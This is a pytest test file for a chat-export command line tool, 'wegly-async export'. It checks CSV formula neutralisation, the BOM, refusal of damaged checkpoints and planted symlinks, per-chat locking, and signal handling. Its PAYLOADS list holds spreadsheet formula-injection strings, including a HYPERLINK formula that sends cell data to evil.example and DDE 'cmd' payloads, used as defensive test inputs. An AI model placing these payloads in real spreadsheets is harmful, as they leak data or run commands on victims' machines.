"""`wegly-async export` in real processes: CSV cells, the BOM, refusals with exit 2, one
writer per chat (two real exports), SIGTERM and SIGINT, and the progress lines.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import signal
import uuid
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from export_oracles import FORMULA_STARTS, expected_csv_row
from test_export_resume import (
    Run,
    assert_exact,
    assert_jsonl_exact,
    cli_env,
    export_args,
    finish,
    gets,
    run_cli,
    spawn,
    timeline_url,
)

from wegly_async.export import CSV_COLUMNS
from wegly_async.testing import WeglyEmulator

WAIT = 20.0  # seconds a test waits for a child process to reach a point
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
INTERRUPTED = "wegly-async export: interrupted \N{EM DASH} run the same command again to resume"


@pytest.fixture
async def emu() -> AsyncIterator[WeglyEmulator]:
    # Latency keeps a run long enough to stop or signal it at chosen points.
    async with WeglyEmulator(latency=0.02) as emulator:
        yield emulator


def csv_rows(path: Path, *, bom: bool) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith("\ufeff".encode()) == bom
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    return rows[1:]


def checkpoint(out: Path, chat_id: str) -> Path:
    return out / ".checkpoints" / f"{chat_id}.json"


def has_checkpoint_with_events(out: Path, chat_id: str) -> bool:
    with contextlib.suppress(FileNotFoundError, ValueError):
        return json.loads(checkpoint(out, chat_id).read_bytes())["events"] > 0
    return False


async def wait_for(proc: asyncio.subprocess.Process, condition: object) -> None:
    """Poll (bounded) until ``condition()`` holds while the process still runs."""
    assert callable(condition)
    loop = asyncio.get_running_loop()
    deadline = loop.time() + WAIT
    while not condition():
        assert proc.returncode is None, "the export ended before the point was reached"
        if loop.time() > deadline:
            proc.kill()
            await proc.communicate()
            raise AssertionError("the point was not reached in time")
        await asyncio.sleep(0.002)


def no_traceback(run: Run) -> bool:
    return "Traceback" not in run.stdout + run.stderr


# --- CSV cells and the BOM ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("extra", "neutralize", "bom"),
    [((), True, False), (("--csv-formulas", "raw"), False, False), (("--bom",), True, True)],
    ids=["default", "raw", "bom"],
)
async def test_cli_csv_cells_and_bom(
    emu: WeglyEmulator, tmp_path: Path, extra: tuple[str, ...], neutralize: bool, bom: bool
) -> None:
    chat_id = emu.create_chat(events=20, seed=401)
    for payload in PAYLOADS:
        emu.add_message(chat_id, payload)
    async with emu.client() as client:
        for payload in PAYLOADS[:4]:  # the SDK sends no control character in a file name
            await client.chats.send_document(chat_id, b"%PDF-1.4", filename=payload + ".pdf")
    emu.add_message(chat_id, "ação")
    events = emu.events(chat_id)
    out = tmp_path / "out"
    args = export_args([chat_id], out, "--format", "csv", *extra)
    run = await run_cli(args, cli_env(emu), tmp_path)
    assert run.returncode == 0, run
    rows = csv_rows(out / f"{chat_id}.csv", bom=bom)
    assert rows == [expected_csv_row(e, neutralize=neutralize) for e in events]
    body = [row[CSV_COLUMNS.index("body_text")] for row in rows]
    name_column = CSV_COLUMNS.index("media_file_name")
    names = [row[name_column] for row in rows[26:30]]
    prefix = "'" if neutralize else ""
    assert body[20:26] == [prefix + payload for payload in PAYLOADS]
    assert names == [prefix + payload + ".pdf" for payload in PAYLOADS[:4]]
    assert body[-1] == "ação"
    if neutralize:
        assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


async def test_cli_jsonl_is_the_same_with_raw_formulas(emu: WeglyEmulator, tmp_path: Path) -> None:
    chat_id = emu.create_chat(events=0)
    for payload in PAYLOADS:
        emu.add_message(chat_id, payload)
    for name, extra in (("neutral", ()), ("raw", ("--csv-formulas", "raw"))):
        run = await run_cli(export_args([chat_id], tmp_path / name, *extra), cli_env(emu), tmp_path)
        assert run.returncode == 0, run
        assert_jsonl_exact(tmp_path / name / f"{chat_id}.jsonl", emu.events(chat_id))


async def test_cli_refuses_an_unknown_csv_formulas_mode(emu: WeglyEmulator, tmp_path: Path) -> None:
    chat_id = emu.create_chat(events=5, seed=402)
    args = export_args([chat_id], tmp_path / "out", "--csv-formulas", "escape")
    run = await run_cli(args, cli_env(emu), tmp_path)
    assert run.returncode == 2
    assert "--csv-formulas" in run.stderr and no_traceback(run)
    assert gets(emu) == []


# --- refusals: exit 2 before any request -------------------------------------------------


async def test_cli_refuses_a_data_file_no_export_wrote(emu: WeglyEmulator, tmp_path: Path) -> None:
    chat_id = emu.create_chat(events=30, seed=403)
    out = tmp_path / "out"
    out.mkdir()
    data = out / f"{chat_id}.jsonl"
    data.write_bytes(b'{"mine": true}\n')
    run = await run_cli(export_args([chat_id], out), cli_env(emu), tmp_path)
    assert run.returncode == 2, run
    assert run.stderr_lines == [
        f"wegly-async export: error: chat {chat_id}: {data} exists and was not written by "
        "an export (it has no checkpoint); remove it or pick another output directory"
    ]
    assert gets(emu) == []
    assert data.read_bytes() == b'{"mine": true}\n'


@pytest.mark.parametrize("damage", ["[]", "null", "size"])
async def test_cli_refuses_a_checkpoint_that_does_not_match(
    emu: WeglyEmulator, tmp_path: Path, damage: str
) -> None:
    chat_id = emu.create_chat(events=120, seed=404)
    out = tmp_path / "out"
    first = await run_cli(export_args([chat_id], out), cli_env(emu), tmp_path)
    assert first.returncode == 0, first
    path = checkpoint(out, chat_id)
    if damage == "size":
        saved = json.loads(path.read_bytes())
        saved["size"] += 1
        path.write_text(json.dumps(saved))
    else:
        path.write_text(damage)
    emu.requests.clear()
    run = await run_cli(export_args([chat_id], out), cli_env(emu), tmp_path)
    assert run.returncode == 2, run
    [line] = run.stderr_lines
    assert line.startswith(f"wegly-async export: error: chat {chat_id}: cannot resume from {path}")
    assert line.endswith(f"delete it and {out / f'{chat_id}.jsonl'} to export the chat again")
    assert no_traceback(run)
    assert gets(emu) == []


async def test_cli_refuses_a_data_file_planted_as_a_link(
    emu: WeglyEmulator, tmp_path: Path
) -> None:
    chat_id = emu.create_chat(events=30, seed=405)
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious\n")
    out = tmp_path / "out"
    out.mkdir()
    (out / f"{chat_id}.csv").symlink_to(victim)
    run = await run_cli(export_args([chat_id], out, "--format", "csv"), cli_env(emu), tmp_path)
    assert run.returncode == 2, run
    assert "is a symbolic link" in run.stderr and no_traceback(run)
    assert victim.read_bytes() == b"precious\n"
    assert gets(emu) == []


# --- one writer per chat -----------------------------------------------------------------


@pytest.fixture
async def paused_export(
    emu: WeglyEmulator, tmp_path: Path
) -> AsyncIterator[tuple[asyncio.subprocess.Process, str, Path]]:
    """A real export of one long chat, stopped (SIGSTOP) once it has a checkpoint."""
    chat_id = emu.create_chat(events=2000, seed=406)
    out = tmp_path / "out"
    proc = await spawn(export_args([chat_id], out, "--take", "50"), cli_env(emu), tmp_path)
    await wait_for(proc, lambda: has_checkpoint_with_events(out, chat_id))
    proc.send_signal(signal.SIGSTOP)
    try:
        yield proc, chat_id, out
    finally:
        with contextlib.suppress(ProcessLookupError):
            proc.send_signal(signal.SIGCONT)
        if proc.returncode is None:
            with contextlib.suppress(ProcessLookupError):
                proc.kill()
            await proc.communicate()


async def test_cli_a_second_export_of_a_chat_being_written_fails_it_fast_and_goes_on(
    emu: WeglyEmulator,
    tmp_path: Path,
    paused_export: tuple[asyncio.subprocess.Process, str, Path],
) -> None:
    first, chat_id, out = paused_export
    other = emu.create_chat(events=300, seed=407)
    data = out / f"{chat_id}.jsonl"
    before = data.read_bytes()

    second = await run_cli(
        export_args([chat_id, other], out, "--take", "50"), cli_env(emu), tmp_path
    )
    assert second.returncode == 1, second
    lock = out / ".checkpoints" / f"{chat_id}.lock"
    assert second.stderr_lines == [
        f"chat {chat_id}: ExportLockedError: another export is writing chat {chat_id} "
        f"(it holds {lock}); let it finish, or run this one again once it is done"
    ]
    assert data.read_bytes() == before, "the second export wrote into the locked chat"
    assert_jsonl_exact(out / f"{other}.jsonl", emu.events(other))

    first.send_signal(signal.SIGCONT)
    done = await finish(first)
    assert done.returncode == 0, done
    assert_jsonl_exact(data, emu.events(chat_id))


async def test_cli_an_export_in_the_other_order_is_refused_while_one_runs(
    emu: WeglyEmulator,
    tmp_path: Path,
    paused_export: tuple[asyncio.subprocess.Process, str, Path],
) -> None:
    first, chat_id, out = paused_export
    data = out / f"{chat_id}.jsonl"
    before = data.read_bytes()
    desc = await run_cli(export_args([chat_id], out, "--order", "desc"), cli_env(emu), tmp_path)
    assert desc.returncode == 2, desc
    assert "was started with format=jsonl order=asc; rerun with those" in desc.stderr
    assert data.read_bytes() == before
    first.send_signal(signal.SIGCONT)
    assert (await finish(first)).returncode == 0
    assert_jsonl_exact(data, emu.events(chat_id))


# --- SIGTERM and SIGINT ------------------------------------------------------------------


@pytest.mark.parametrize(("signum", "status"), [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
async def test_cli_a_signal_leaves_a_checkpoint_to_resume_from(
    emu: WeglyEmulator, tmp_path: Path, signum: int, status: int, fmt: str
) -> None:
    chats = [emu.create_chat(events=1500, seed=408), emu.create_chat(events=900, seed=409)]
    out = tmp_path / "out"
    args = export_args(chats, out, "--take", "50", "--format", fmt)
    proc = await spawn(args, cli_env(emu), tmp_path)
    await wait_for(proc, lambda: all(has_checkpoint_with_events(out, c) for c in chats))
    proc.send_signal(signum)
    run = await finish(proc)
    assert run.returncode == status, run
    assert run.stderr_lines == [INTERRUPTED]
    assert run.stdout == ""
    partial = [json.loads(checkpoint(out, c).read_bytes())["events"] for c in chats]
    assert partial[0] < 1500, "the signal came after the export finished"

    emu.requests.clear()
    final = await run_cli(args, cli_env(emu), tmp_path)
    assert final.returncode == 0, final
    for chat_id in chats:
        assert_exact(out, chat_id, fmt, emu.events(chat_id))
    # It resumed from the checkpoints the signal left, not from the start.
    first_skips = {r.path.split("/")[-2]: int(r.query["skip"]) for r in reversed(gets(emu))}
    assert all(first_skips[c] > 0 for c in chats)


# --- progress lines ----------------------------------------------------------------------


def without_rich(tmp_path: Path, env: dict[str, str]) -> dict[str, str]:
    """The environment of a Python on which ``import rich`` fails, as without the extra."""
    shim = tmp_path / "no-rich"
    (shim / "rich").mkdir(parents=True)
    (shim / "rich" / "__init__.py").write_text(
        "raise ModuleNotFoundError(\"No module named 'rich'\")\n"
    )
    path = env.get("PYTHONPATH")
    return env | {"PYTHONPATH": f"{shim}:{path}" if path else str(shim)}


@pytest.mark.parametrize("rich", [True, False], ids=["with-rich", "without-rich"])
async def test_cli_plain_progress_counts_chats_and_names_no_file_it_never_wrote(
    emu: WeglyEmulator, tmp_path: Path, rich: bool
) -> None:
    if rich:
        pytest.importorskip("rich")  # the aiohttp 3.13 session runs without the cli extra
    good, missing = emu.create_chat(events=120, seed=410), str(uuid.uuid4())
    env = cli_env(emu) if rich else without_rich(tmp_path, cli_env(emu))
    out = tmp_path / "out"
    args = export_args([good, missing], out, "--concurrency", "1", progress=True)
    run = await run_cli(args, env, tmp_path)
    assert run.returncode == 1, run
    hint = "progress: plain lines (pip install 'wegly-async[cli]' draws bars on a terminal)"
    assert run.stderr_lines == [
        *([] if rich else [hint]),
        f"chat {good}: ok, 120 events in {out / f'{good}.jsonl'} (1/2 chats done)",
        f"chat {missing}: FAILED, nothing written (2/2 chats done)",
        f"chat {missing}: NotFoundError: 404 GET {timeline_url(emu, missing)}: "
        f"chat {missing} not found",
    ]
    assert not (out / f"{missing}.jsonl").exists()
